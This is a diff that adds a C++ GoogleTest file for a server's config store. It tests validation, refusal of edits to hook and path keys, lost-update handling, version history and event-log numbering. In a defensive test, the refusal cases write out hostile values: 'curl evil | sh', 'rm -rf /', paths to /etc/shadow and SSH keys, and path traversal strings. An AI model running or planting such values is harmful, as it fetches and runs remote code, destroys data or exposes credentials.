@@ -1,0 +1,154 @@
+// ConfigStore (what the panel's config editor and `config-*` commands do) against a real
+// file: check-config's findings, the privileged-key rule, lost-update refusal, history
+// and restore; and EventLog's numbering.
+#include "server/config_store.h"
+
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+
+#include <fstream>
+
+#include "../config/temp_dir.h"
+#include "server/event_log.h"
+#include "server/privileged_keys.h"
+
+namespace qeli::server {
+namespace {
+
+constexpr char kBase[] =
+    "# the operator's comment stays\n"
+    "[auth]\n"
+    "users_file = users.conf\n"
+    "[profile:main]\n"
+    "bind.port = 4433\n"
+    "routing.post_up = /usr/local/bin/up.sh\n";
+
+struct Fixture {
+  Fixture() {
+    path = dir.write("server.conf", kBase);
+    dir.write("users.conf", "");
+    ::chmod(path.c_str(), 0640);
+  }
+  std::string text() const {
+    std::ifstream f(path);
+    return {std::istreambuf_iterator<char>(f), {}};
+  }
+  test::TempDir dir;
+  std::string path;
+};
+
+TEST(ConfigStore, ValidatesLikeCheckConfig) {
+  Fixture f;
+  ConfigStore store(f.path);
+  auto v = store.validate(kBase);
+  EXPECT_TRUE(v.ok);
+  v = store.validate(std::string(kBase) + "tun.mtu = 1400 # max\n");
+  EXPECT_FALSE(v.ok);
+  ASSERT_FALSE(v.findings.empty());
+  EXPECT_EQ(v.findings[0].severity, "error");
+  EXPECT_EQ(v.findings[0].key, "tun.mtu");
+  v = store.validate(std::string(kBase) + "tun.mtuu = 1400\n");
+  EXPECT_FALSE(v.ok) << "an unknown key blocks as in check-config";
+}
+
+TEST(ConfigStore, RefusesHooksAndPaths) {
+  Fixture f;
+  ConfigStore store(f.path);
+  std::string t = kBase;
+  // Changing the hook, removing it, adding one, or pointing a path elsewhere: refused.
+  for (const std::string& edit :
+       {std::string("routing.post_up = /usr/local/bin/up.sh\n"), std::string("")}) {
+    std::string changed = t;
+    changed.replace(changed.find("routing.post_up"),
+                    std::string("routing.post_up = /usr/local/bin/up.sh\n").size(),
+                    edit.empty() ? "" : "routing.post_up = curl evil | sh\n");
+    auto v = store.validate(changed);
+    EXPECT_FALSE(v.ok) << changed;
+  }
+  for (const char* extra :
+       {"routing.post_down = rm -rf /\n", "identity_key = /root/.ssh/id_ed25519\n"}) {
+    auto v = store.validate(t + std::string(extra));
+    EXPECT_FALSE(v.ok) << extra;
+    bool named = false;
+    for (const auto& x : v.findings)
+      named |= x.message.find("hooks and file paths") != std::string::npos;
+    EXPECT_TRUE(named) << extra;
+  }
+  auto v = store.validate(t + "[logging]\nfile = /etc/cron.d/x\n");
+  EXPECT_FALSE(v.ok);
+  v = store.validate(t + "[logging]\nfile = /var/log/qeli/../../etc/x\n");
+  EXPECT_FALSE(v.ok);
+  v = store.validate(t + "[logging]\nfile = /var/log/qeli/server.log\n");
+  EXPECT_TRUE(v.ok) << (v.findings.empty() ? "" : v.findings[0].text);
+  v = store.validate("[auth]\nusers_file = /etc/shadow\n" + t.substr(t.find("[profile")));
+  EXPECT_FALSE(v.ok);
+}
+
+TEST(ConfigStore, SavesWithHistoryAndRefusesLostUpdates) {
+  Fixture f;
+  ConfigStore store(f.path);
+  auto cur = store.read();
+  ASSERT_TRUE(cur.ok());
+  const std::string edited = std::string(kBase) + "tun.mtu = 1300\n";
+  auto bad = store.save({edited, "0000", "alice"});
+  ASSERT_FALSE(bad.ok());
+  EXPECT_EQ(bad.error().code, control::ErrorCode::kConflict);
+  auto invalid = store.save({edited + "tun.mtu = 1\n", cur->sha256, "alice"});
+  ASSERT_FALSE(invalid.ok());
+  EXPECT_EQ(invalid.error().code, control::ErrorCode::kInvalid);
+  EXPECT_EQ(f.text(), kBase) << "a refused save changes nothing";
+
+  auto ok = store.save({edited, cur->sha256, "alice"});
+  ASSERT_TRUE(ok.ok()) << ok.error().message;
+  EXPECT_EQ(f.text(), edited);
+  struct stat st {};
+  ::stat(f.path.c_str(), &st);
+  EXPECT_EQ(st.st_mode & 0777, 0640U) << "the file keeps its mode";
+  const auto h = store.history();
+  ASSERT_EQ(h.versions.size(), 1U);
+  EXPECT_EQ(h.versions[0].id, ok->history_id);
+  EXPECT_EQ(h.versions[0].actor, "alice");
+  auto old = store.version(ok->history_id);
+  ASSERT_TRUE(old.ok());
+  EXPECT_EQ(old->text, kBase);
+  // Restore = save the old text on top of the current one.
+  auto restored = store.save({old->text, ok->sha256, "bob"});
+  ASSERT_TRUE(restored.ok());
+  EXPECT_EQ(f.text(), kBase);
+  EXPECT_EQ(store.history().versions.size(), 2U);
+  EXPECT_FALSE(store.version("../../etc/passwd").ok());
+}
+
+TEST(EventLog, NumbersKeepsOrderAndForgetsTheOldest) {
+  EventLog log;
+  auto ev = [](const char* type) {
+    control::Event e;
+    e.type = type;
+    return e;
+  };
+  for (int i = 0; i < 5; ++i) log.push(ev("session.connected"));
+  auto all = log.since(0, 100);
+  ASSERT_EQ(all.events.size(), 5U);
+  EXPECT_EQ(all.events.front().seq, 1U);
+  EXPECT_EQ(all.last_seq, 5U);
+  EXPECT_EQ(log.since(3, 100).events.size(), 2U);
+  EXPECT_EQ(log.since(0, 2).events.back().seq, 2U);
+  EXPECT_EQ(log.since(5, 100).events.size(), 0U);
+  for (std::size_t i = 0; i < EventLog::kCapacity + 10; ++i) log.push(ev("x"));
+  all = log.since(0, 1000);
+  EXPECT_EQ(all.events.front().seq, 5U + 10U + 1U);
+  EXPECT_EQ(all.boot.size(), 16U);
+}
+
+TEST(PrivilegedKeys, NamesHooksCommandsAndPaths) {
+  for (const char* k : {"routing.post_up", "routing.post_down", "password_command", "users_file",
+                        "identity_key", "file", "tls_cert", "tls_key", "state_dir", "dns.hook"}) {
+    EXPECT_TRUE(is_privileged_key("x", k)) << k;
+  }
+  for (const char* k : {"tun.mtu", "bind.port", "obf.mode", "max_sessions", "enabled"}) {
+    EXPECT_FALSE(is_privileged_key("x", k)) << k;
+  }
+}
+
+}  // namespace
+}  // namespace qeli::server
